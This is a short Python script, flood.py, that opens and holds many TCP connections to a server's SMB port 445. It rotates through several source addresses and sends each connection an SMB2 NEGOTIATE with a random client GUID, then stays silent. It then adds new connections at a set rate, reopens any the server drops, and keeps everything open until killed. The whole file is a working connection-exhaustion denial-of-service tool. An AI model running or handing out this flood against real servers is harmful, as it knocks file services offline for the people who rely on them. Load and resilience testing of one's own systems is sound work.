"""Connections of nobody: flood.py SERVER HELD RATE SECONDS SOURCE…

Opens HELD TCP connections from the SOURCE addresses in turn, sends an SMB2 NEGOTIATE under a ClientGuid of its own on
each and says nothing more; prints 'held N answered N refused N'; then for SECONDS opens RATE more a second, and prints
the same again, and holds them until it is killed. For those that the server closes, RATE at most are opened anew a second.
"""
import os
import select
import socket
import struct
import sys
import time

server, held, rate, seconds, sources = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), sys.argv[5:]
connections = {}
poll = select.poll()
opened = answered = refused = closed = 0


def negotiate():
    header = b"\xfeSMB" + struct.pack("<HHIHHIIQIIQ16x", 64, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0)
    body = struct.pack("<HHHHI16sQH", 36, 1, 1, 0, 0x44, os.urandom(16), 0, 0x0300)
    return struct.pack(">I", len(header + body)) + header + body


def open_one():
    global opened, refused
    one = socket.socket()
    one.settimeout(10)
    opened += 1
    try:
        one.bind((sources[opened % len(sources)], 0))
        one.connect((server, 445))
        one.sendall(negotiate())
    except OSError:
        refused += 1
        return
    one.setblocking(False)
    connections[one.fileno()] = one
    poll.register(one, select.POLLIN)


def look(milliseconds):
    global answered, closed
    for number, _ in poll.poll(milliseconds):
        try:
            got = connections[number].recv(4096)
        except OSError:
            got = b""
        if got:
            answered += 1
            continue
        closed += 1
        poll.unregister(number)
        connections.pop(number).close()


def say():
    print(f"held {len(connections)} answered {answered} refused {refused} closed {closed}", flush=True)


while opened < held:
    open_one()
    look(0)
patience = time.monotonic() + 120
while answered + closed < len(connections) and time.monotonic() < patience:
    look(1000)
say()
began, more, again = time.monotonic(), 0, 0
while time.monotonic() - began < seconds:
    due = (time.monotonic() - began) * rate
    while more < due:
        open_one()
        more += 1
    # Those the server let go of: as many are to be held, no faster than the others come.
    if len(connections) < held and again < due:
        open_one()
        again += 1
    look(20)
say()
# Until it is killed.
while True:
    look(1000)
